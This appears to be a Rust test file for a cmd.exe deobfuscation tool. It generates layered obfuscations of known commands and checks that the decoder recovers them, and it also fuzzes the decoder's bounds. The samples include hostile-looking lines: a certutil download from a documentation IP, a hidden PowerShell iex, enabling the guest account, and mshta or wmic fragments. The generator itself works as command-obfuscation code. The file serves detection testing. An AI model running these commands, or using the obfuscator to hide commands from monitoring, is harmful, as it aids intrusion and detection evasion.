//! Known lines hidden by the tricks of `cmd.exe`, up to five deep: each comes back as it was.
//!
//! The generator follows the order of the parser's phases from the inside out: what it writes for
//! a level is escaped as that level's `cmd.exe` reads it.

use proptest::prelude::*;
use spawnscope::decode::{Command, decode};

use super::run;

const ORIGINALS: &[&str] = &[
    "whoami /all",
    "net user guest /active:yes",
    "powershell -nop -w hidden -c iex $env:x",
    "ping -n 3 192.0.2.1",
    "reg query HKLM\\Software\\Microsoft",
    "certutil -urlcache -f http://192.0.2.1/a.txt a.exe",
];

/// `C:\Windows\system32\cmd.exe`, the value of `%ComSpec%`.
const COMSPEC: &str = "C:\\Windows\\system32\\cmd.exe";

/// Xorshift: the same numbers for the same seed.
struct Random(u64);

impl Random {
    fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % limit as u64).unwrap_or_default()
    }
}

/// Carets before `& | < > ^` outside quotes, so that one more `cmd.exe` reads the same.
fn escaped(line: &str) -> String {
    let mut written = String::new();
    let mut is_quoted = false;
    for c in line.chars() {
        is_quoted ^= c == '"';
        if !is_quoted && "&|<>^".contains(c) {
            written.push('^');
        }
        written.push(c);
    }
    written
}

/// Carets before letters outside quotes and variables.
fn carets(line: &str, random: &mut Random) -> String {
    let mut written = String::new();
    let (mut is_quoted, mut is_variable, mut before) = (false, false, ' ');
    for c in line.chars() {
        is_quoted ^= c == '"';
        is_variable ^= c == '%';
        let is_free = !is_quoted && !is_variable && before != '^' && before != '%';
        if is_free && c.is_ascii_lowercase() && random.below(2) == 0 {
            written.push('^');
        }
        written.push(c);
        before = c;
    }
    written
}

/// `set` for pieces of the line and `call` of all of them.
fn pieces(line: &str, random: &mut Random) -> String {
    let (first, rest) = line.split_at(1 + random.below(line.len() - 2));
    let (second, third) = rest.split_at(random.below(rest.len()));
    if second.is_empty() {
        return format!("set a={first}&&set c={third}&&call %a%%c%");
    }
    format!("set a={first}&&set b={second}&set c={third}&&call %a%%b%%c%")
}

/// A list of indices into the line's characters in another order.
fn indices(line: &str, random: &mut Random) -> String {
    let mut letters: Vec<char> = line.chars().collect();
    letters.sort_unstable();
    letters.dedup();
    for at in (1..letters.len()).rev() {
        letters.swap(at, random.below(at + 1));
    }
    // A string that ends in a blank would be cut short by nobody, but is hard to read.
    let at = letters.iter().position(|c| *c == ' ').unwrap_or_default();
    letters.swap(0, at);
    let string: String = letters.iter().collect();
    let list: Vec<String> = line
        .chars()
        .map(|c| letters.iter().position(|known| *known == c).unwrap_or_default().to_string())
        .collect();
    let list = list.join(" ");
    let length = line.len();
    format!(
        "cmd /v:on /c \"set u={string}&&for %q in ({list} 1337) do set f=!f!!u:~%q,1!&&if %q==1337 call %f:~-{length}%\""
    )
}

/// The line from its end to its start.
fn reversed(line: &str) -> String {
    let string: String = line.chars().rev().collect();
    let last = line.len() - 1;
    format!(
        "cmd /v:on /c \"set r={string}&&for /l %q in ({last},-1,0) do set f=!f!!r:~%q,1!&&if %q==0 call %f:*f!=%\""
    )
}

/// One letter of the program's name out of `%ComSpec%`.
fn from_windows(line: &str) -> String {
    let end = line.find(' ').unwrap_or(line.len());
    let found = line[..end].char_indices().find_map(|(at, c)| {
        let place = COMSPEC.find(c)?;
        Some(format!("{}%ComSpec:~{place},1%{}", &line[..at], &line[at + 1..]))
    });
    found.unwrap_or_else(|| line.to_owned())
}

/// An innermost trick.
fn hidden(line: &str, random: &mut Random) -> String {
    match random.below(8) {
        0 => pieces(line, random),
        1 => indices(line, random),
        2 => reversed(line),
        3 => from_windows(line),
        4 => format!("{}\"\"{}", &line[..2], &line[2..]),
        5 => format!("for /f \"tokens=*\" %p in ('echo {line}') do %p"),
        6 => format!("cmd /v:on /c \"set x={}&&!x:#=!\"", line.replace('e', "#e")),
        _ => format!(",;{line}"),
    }
}

/// Another trick around it.
fn wrapped(line: &str, random: &mut Random) -> String {
    match random.below(4) {
        0 if !line.contains('"') => format!("cmd /c \"{line}\""),
        1 => format!("echo {}|cmd", escaped(line)),
        2 => format!("cmd /c {}", escaped(line)),
        _ => carets(line, random),
    }
}

/// The command behind the heads of all `cmd.exe` around it.
fn command_of(line: &str) -> &str {
    let mut line = line.trim();
    loop {
        let inner = ["cmd /c ", "cmd /v:on /c "].iter().find_map(|head| line.strip_prefix(head));
        let Some(inner) = inner else { return line };
        let unquoted = inner.strip_prefix('"').and_then(|inner| inner.strip_suffix('"'));
        line = unquoted.unwrap_or(inner).trim();
    }
}

#[test]
fn what_was_hidden_comes_back() {
    let mut wrong = Vec::new();
    for seed in 1..=1500_u64 {
        let mut random = Random(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let original = ORIGINALS[random.below(ORIGINALS.len())];
        let mut line = hidden(original, &mut random);
        for _ in 0..random.below(5) {
            line = wrapped(&line, &mut random);
        }
        let line = format!("cmd /c \"{line}\"");
        let decoding = run(&line);
        let last = decoding.last_text().unwrap_or(&line);
        if command_of(last) != original || !decoding.failed.is_empty() {
            wrong.push(format!("{seed}: {line}\n  {last}\n  {:?}", decoding.failed));
        }
        assert_eq!(run(last).layers, [], "again: {last}");
    }
    let count = wrong.len();
    wrong.truncate(12);
    assert!(wrong.is_empty(), "{count} of 1500\n{}", wrong.join("\n"));
}

/// Hundreds of characters, put together one by one.
#[test]
fn long_lines_come_back_too() {
    let original = format!("powershell -nop -enc {}", "QQBCAEMA".repeat(100));
    let mut random = Random(7);
    let lines = [indices(&original, &mut random), reversed(&original)];
    for line in lines {
        assert!(line.len() < 8191, "{}", line.len());
        let decoding = run(&line);
        assert_eq!(command_of(&decoding.layers[0].text), original, "{:?}", decoding.failed);
    }
}

/// Bounded work on lines that are made to be slow; what is not undone is told.
#[test]
fn hostile_lines_of_cmd_end_fast() {
    let seeds = [
        "^a",
        "%a",
        "%a:",
        "%ComSpec:~0,1%",
        "%PATHEXT:E=EEEE%",
        "!x!",
        "!x:a=",
        "set x=!x!!x!aaaa&",
        "set a=1&call %a%",
        "call ",
        "cmd /c ",
        "cmd /c \"",
        "(",
        "((a)",
        ")",
        "&",
        "|",
        "echo a|cmd&",
        "echo a|",
        "for %i in (a b) do ",
        "for %i in (a b c d e f g h) do set x=!x!%i%i%i%i&",
        "for /l %i in (1,1,9999) do set x=!x!a&",
        "for /l %i in (1,1,999999999) do ",
        "for /f %i in ('echo a') do ",
        "for /f %i in ('cmd /c \"",
        "if a==a ",
        "if exist a (b) else (",
        "if not defined x if ",
        "set /a x=((((1+",
        "set /a x=1,",
        "start /b ",
        "c\"\"",
        "\"a",
        ",;=",
        "<a>b",
        "set x=%x%&set y=%y%&",
    ];
    for seed in seeds {
        for head in ["cmd /c ", "cmd /v:on /c \"set x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa& "] {
            for size in [8191, 1 << 16] {
                let line = format!("{head}{}", seed.repeat(size / seed.len()));
                let start = std::time::Instant::now();
                let _decoding = decode(&Command { text: &line, ..Command::default() });
                let taken = start.elapsed().as_secs_f64();
                assert!(taken < 5.0, "{taken} s for {head}{seed} of {size}");
            }
        }
    }
}

#[test]
fn a_limit_that_is_met_is_told() {
    let bomb = format!("cmd /v:on /c \"set x=a&{}echo !x!\"", "set x=!x!!x!&".repeat(20));
    let deep = format!("cmd /c {}w^hoami", "(".repeat(100));
    let long = format!(
        "cmd /v:on /c \"{}\"",
        "(for /l %i in (1,1,9999) do set x=!x:~0,100!a)&".repeat(40) + "echo !x!"
    );
    let huge = format!("cmd /c {}", "^a".repeat(1 << 16));
    let cases =
        [(bomb, "8191 characters"), (deep, "24 deep"), (long, "steps of work"), (huge, "8,191")];
    for (line, reason) in cases {
        let decoding = run(&line);
        assert_eq!(decoding.layers, [], "{line}");
        let is_told = decoding.failed.iter().any(|failed| failed.reason.contains(reason));
        assert!(is_told, "{reason}: {:?}", decoding.failed);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn any_line_of_cmd_gives_valid_spans(
        parts in proptest::collection::vec(prop_oneof![
            "[a-z%!^&|<>()\"',;= ]{0,6}",
            any::<String>(),
            proptest::sample::select(vec![
                "set x=", "&& ", "call ", "%x%", "!x!", "%x:~1,2%", "!x:a=b!", "for %i in (", ") do ",
                "for /l %i in (1,1,3) do ", "for /f \"tokens=1,2 delims=,\" %i in ('", "') do ", "%i",
                "echo ", "|cmd", "| powershell -", "cmd /c ", "cmd /v:on /c \"", "if a==a ", "else ",
                "set /a x=", "start /b ", "c\"\"md", "%ComSpec:~-7%", "schtasks /create /tr \"",
                "mshta vbscript:Run(\"", "\"&\"", "forfiles /c \"0x41", "wmic process call create ",
                "%%COMSPEC%%", "é", "\u{1F600}", "\\\"",
            ]).prop_map(str::to_owned),
        ], 0..16),
    ) {
        let line = format!("cmd /c {}", parts.concat());
        let command = Command { text: &line, ..Command::default() };
        let decoding = decode(&command);
        prop_assert_eq!(&decoding, &decode(&command));
        let mut before = line.as_str();
        for layer in &decoding.layers {
            prop_assert!(before.get(layer.span.from..layer.span.to).is_some(), "{:?}", layer);
            before = &layer.text;
        }
        for failed in &decoding.failed {
            let fits = |text: &str| text.get(failed.span.from..failed.span.to).is_some();
            prop_assert!(fits(&line) || decoding.layers.iter().any(|layer| fits(&layer.text)));
        }
    }
}
